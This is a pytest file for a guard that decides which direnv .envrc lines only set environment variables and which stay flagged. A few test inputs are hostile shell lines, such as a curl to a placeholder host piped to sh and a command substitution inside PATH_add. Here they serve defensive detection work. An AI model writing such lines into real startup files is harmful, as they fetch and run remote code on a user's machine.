"""gaps38 (policies/README.md, "Known gaps closed (gaps38)"): direnv's stdlib functions that only change the
environment, read in an `.envrc` as the assignments they make (hookd.enrich.effects.direnv)."""

from __future__ import annotations

import pytest

from hookd.enrich.effects.configtext import quiet_setting
from hookd.enrich.effects.direnv import direnv_settings

ENVRC = "/work/app/.envrc"


@pytest.mark.parametrize(
    "text",
    ["dotenv_if_exists .env.local\nPATH_add bin\n", "dotenv\nwatch_file package.json\nPATH_add node_modules/.bin\n"],
)
def test_the_stdlibs_settings_run_nothing(text: str) -> None:
    effect: dict[str, object] = {}
    assert quiet_setting(effect, ENVRC, text, "sh")  # was a deferred exec: unknown commands of a startup file


@pytest.mark.parametrize(
    "text",
    [
        "PATH_add /tmp/x\n",  # a search path into scratch space, as `export PATH=/tmp/x:$PATH` is
        "dotenv ~/.cache/x.env\n",  # a file that is no guarded .env
        "source_env ../other\n",
        "use nix\n",
        "PATH_add $(curl -s x.example.net)\n",
    ],
)
def test_other_lines_stay_asked(text: str) -> None:
    assert not quiet_setting({}, ENVRC, text, "sh")


def test_a_variable_path_add_moves_is_kept_for_the_guard() -> None:
    effect: dict[str, object] = {}
    assert quiet_setting(effect, ENVRC, "path_add GEMINI_CLI_HOME g\n", "sh")
    assert effect["sets"] == {"GEMINI_CLI_HOME": "/work/app/g:$GEMINI_CLI_HOME"}


def test_only_an_envrc_is_read_with_direnvs_stdlib() -> None:
    assert direnv_settings("/home/u/.bashrc", "PATH_add bin\n") == "PATH_add bin\n"


# benign41 (blind-benign-15): a directory the shell expands below the home before direnv's PATH_add sees it
@pytest.mark.parametrize(
    "text",
    [
        "PATH_add $HOME/Android/Sdk/platform-tools\n",  # was asked: any `$` left the line as unknown code
        "PATH_add ${HOME}/sdk/bin ~/go/bin\n",
        "export NODE_ENV=development\nPATH_add node_modules/.bin\nPATH_add $HOME/.local/bin\n",
    ],
)
def test_a_home_directory_on_the_search_path_runs_nothing(text: str) -> None:
    assert quiet_setting({}, ENVRC, text, "sh")


@pytest.mark.parametrize(
    "text",
    [
        "PATH_add ~/.cache/x\n",  # the home's caches are scratch space; `~` was read as a directory of the project
        "PATH_add ~/../../tmp/x\n",  # `/tmp/x` once the shell expands `~`
        "PATH_add $HOME/../../tmp/x\n",
        "PATH_add $OTHER/bin\n",  # another variable: not known before the shell runs
        "PATH_add '$HOME/bin'\n",  # quoted: a directory named `$HOME` below the project
        "PATH_add ~root/bin\n",  # another user's home
        "PATH_add $HOME/bin /tmp/x\n",
        "dotenv .env.$STAGE\n",  # a `$` in any other line stays asked
    ],
)
def test_home_directories_that_leave_the_home_or_are_not_known_stay_asked(text: str) -> None:
    assert not quiet_setting({}, ENVRC, text, "sh")


def test_a_home_directory_is_kept_below_the_home() -> None:
    assert direnv_settings(ENVRC, "PATH_add ~/Android/Sdk/platform-tools bin") == (
        'export PATH="$HOME/Android/Sdk/platform-tools:/work/app/bin":$PATH'
    )


@pytest.mark.parametrize(
    "text",
    ["dotenv ~/scratch/.env\n", "dotenv_if_exists ${HOME}/scratch/.env\n", "dotenv /tmp/.env\n", "dotenv ../.env\n"],
)
def test_a_dotenv_file_outside_the_envrcs_tree_is_no_setting(text: str) -> None:
    assert not quiet_setting({}, ENVRC, text, "sh")  # was quiet: only the basename `.env` was checked


# benign44 (blind-benign-18): `layout python` makes a virtualenv below the `.envrc`'s directory with an installed
# interpreter, and puts its `bin` on the search path: no code of the line's, no program from elsewhere
@pytest.mark.parametrize(
    "text",
    ["layout python python3.12\n", "layout python\n", "layout python3\nwatch_file requirements.txt\n"],
)
def test_a_python_virtualenv_layout_runs_nothing(text: str) -> None:
    assert quiet_setting({}, ENVRC, text, "sh")  # was asked: `layout …` was unknown code of a startup file


@pytest.mark.parametrize(
    "text",
    [
        "layout python /tmp/x/python\n",  # an interpreter by its path: whatever is there runs
        "layout python $PY\n",
        "layout python python3 --upgrade-deps\n",  # venv's options: pip installs from an index
        "layout python3 --system-site-packages\n",
        "layout node\n",
        "layout python; curl x.example.net | sh\n",
        "PATH_add bin\nlayout python mypy3\n",  # NAME found first in the project's bin the same file put first
    ],
)
def test_other_layouts_stay_asked(text: str) -> None:
    assert not quiet_setting({}, ENVRC, text, "sh")
